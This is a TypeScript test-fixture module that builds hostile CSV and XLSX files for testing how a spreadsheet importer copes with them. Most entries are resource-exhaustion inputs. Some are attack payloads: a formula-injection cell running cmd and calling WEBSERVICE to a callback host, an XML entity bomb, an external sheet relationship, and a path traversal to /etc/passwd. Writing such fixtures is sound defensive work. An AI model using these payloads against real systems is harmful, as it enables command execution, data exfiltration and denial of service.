import { zipOf } from '#test/corpus/import/zip-file.ts';
import { MARKER as M, WORDS, type HostileFile } from './hostile-file.ts';
import { zipTricks } from './zip-tricks.ts';

const text = (words: string): Uint8Array => Buffer.from(words, 'utf8');

const csv: readonly (readonly [string, (c: string) => Uint8Array])[] = [
  ['a million columns', () => text('a,'.repeat(1e6))],
  ['a million rows', () => text('a\n'.repeat(1e6))],
  ['a quote that is never closed', () => text(`a,"${'b,'.repeat(1e6)}`)],
  ['quotes without end', () => text(`a,${'"'.repeat(1e6)}`)],
  ['doubled quotes', () => text(`a,"${'""'.repeat(1e6)}"`)],
  [
    'every row longer',
    () => text(Array.from({ length: 600 }, (_, at) => 'a,'.repeat(at)).join('\n')),
  ],
  [
    'formulas',
    (c) => text(`name,sum\n=cmd|'/c ${M.slice(0, 0)}calc'!A1,=WEBSERVICE("${c}")\n@SUM(1),+1\n`),
  ],
  ['zeros', () => text(`a,b\n\0\0,c\n${WORDS},1\n`)],
  ['line ends of every kind', () => text('a,b\r\nc,d\re,f\n\u2028g,h\u0085i,j')],
  ['delimiters only', () => text(',;\t|'.repeat(5e4))],
  ['one cell of ten megabytes', () => text(`a,${'word '.repeat(2e6)}`)],
];

const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const WORKBOOK = `<workbook xmlns="${MAIN}" xmlns:r="r"><sheets><sheet name="Boats" sheetId="1" r:id="r1"/></sheets></workbook>`;
const relations = (
  line = '<Relationship Id="r1" Type="worksheet" Target="worksheets/sheet1.xml"/>',
) => `<Relationships>${line}</Relationships>`;
const sheet = (rows: string): string =>
  `<worksheet xmlns="${MAIN}"><sheetData>${rows}</sheetData></worksheet>`;
const SOUND = sheet(`<row r="1"><c r="A1" t="inlineStr"><is><t>${WORDS}</t></is></c></row>`);
const xlsx = (parts: Record<string, string | Uint8Array> = {}) =>
  zipOf({
    'xl/workbook.xml': WORKBOOK,
    'xl/_rels/workbook.xml.rels': relations(),
    'xl/worksheets/sheet1.xml': SOUND,
    ...parts,
  });
const FIRST = `<row r="1"><c r="A1" t="inlineStr"><is><t>${WORDS}</t></is></c></row>`;
const emptyRows = (row: (at: number) => string, to = 1_048_576): string =>
  Array.from({ length: to - 1 }, (_, at) => row(at + 2)).join('');
const strings = (inner: string): string => `<sst xmlns="${MAIN}">${inner}</sst>`;
const SHEET = 'xl/worksheets/sheet1.xml';

const books: readonly (readonly [string, (c: string) => Promise<Uint8Array>])[] = [
  [
    'a shared string shown without end',
    () =>
      xlsx({
        'xl/sharedStrings.xml': strings(`<si><t>${'boats '.repeat(200_000)}</t></si>`),
        [SHEET]: sheet(`<row r="1">${'<c t="s"><v>0</v></c>'.repeat(100_000)}</row>`),
      }),
  ],
  [
    'a million shared strings',
    () => xlsx({ 'xl/sharedStrings.xml': strings('<si><t>a</t></si>'.repeat(1e6)) }),
  ],
  [
    'strings that are not there',
    () => xlsx({ [SHEET]: sheet('<row><c t="s"><v>-1</v></c><c t="s"><v>1e99</v></c></row>') }),
  ],
  [
    'cells beyond the sheet',
    () =>
      xlsx({
        [SHEET]: sheet(
          '<row r="99999999999"><c r="ZZZ1"><v>1</v></c></row><row r="-5"><c r="A1"><v>2</v></c></row>',
        ),
      }),
  ],
  [
    'a million empty rows',
    () => xlsx({ [SHEET]: sheet(`${FIRST}${emptyRows((at) => `<row r="${at}"/>`)}`) }),
  ],
  [
    'half a million rows of nothing but a look',
    () =>
      xlsx({
        [SHEET]: sheet(
          `${FIRST}${emptyRows((at) => `<row r="${at}"><c r="A${at}" s="1"/></row>`, 500_000)}`,
        ),
      }),
  ],
  ['tags without end', () => xlsx({ [SHEET]: sheet('<row r="1" '.repeat(1e6)) })],
  ['attributes without end', () => xlsx({ [SHEET]: sheet(`<row ${'r="1" '.repeat(2e6)}`) })],
  ['a million empty cells', () => xlsx({ [SHEET]: sheet(`<row>${'<c/>'.repeat(590_000)}</row>`) })],
  [
    'numbers beyond numbers',
    () =>
      xlsx({
        [SHEET]: sheet(
          '<row><c><v>1e999</v></c><c><v>NaN</v></c><c s="99999"><v>-1e308</v></c></row>',
        ),
      }),
  ],
  [
    'entity bomb',
    () =>
      xlsx({
        'xl/sharedStrings.xml': `<!DOCTYPE s [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;">]>${strings('<si><t>&b;</t></si>')}`,
      }),
  ],
  [
    'sheet from elsewhere',
    (c) =>
      xlsx({
        'xl/_rels/workbook.xml.rels': relations(
          `<Relationship Id="r1" Target="${c}/s.xml" TargetMode="External"/>`,
        ),
      }),
  ],
  [
    'sheet that climbs',
    () =>
      xlsx({
        'xl/_rels/workbook.xml.rels': relations(
          '<Relationship Id="r1" Target="../../../../etc/passwd"/>',
        ),
      }),
  ],
  [
    'a workbook that is its own sheet',
    () =>
      xlsx({
        'xl/_rels/workbook.xml.rels': relations('<Relationship Id="r1" Target="workbook.xml"/>'),
      }),
  ],
  [
    'a thousand sheets of one part',
    () =>
      xlsx({
        'xl/workbook.xml': `<workbook xmlns="${MAIN}" xmlns:r="r"><sheets>${'<sheet name="a" r:id="r1"/>'.repeat(1_000)}</sheets></workbook>`,
      }),
  ],
  ['bomb', () => xlsx({ [SHEET]: Buffer.alloc(300 * 1024 * 1024, ' ') })],
  [
    'formats without end',
    () =>
      xlsx({
        'xl/styles.xml': `<styleSheet xmlns="${MAIN}"><numFmts>${`<numFmt numFmtId="1" formatCode="${'#'.repeat(1_000)}"/>`.repeat(1_000)}</numFmts><cellXfs><xf numFmtId="1"/></cellXfs></styleSheet>`,
      }),
  ],
  ['rows a hundred thousand deep', () => xlsx({ [SHEET]: sheet('<row>'.repeat(100_000)) })],
];

/** Tables made to grow, call out or mislead. */
export const TABLE_FILES: readonly HostileFile[] = [
  ...csv.map(([name, bytes]) => ({ name: `${name}.csv`, bytes })),
  ...books.map(([name, bytes]) => ({ name: `${name}.xlsx`, bytes })),
  ...zipTricks('xlsx', () => xlsx()),
];
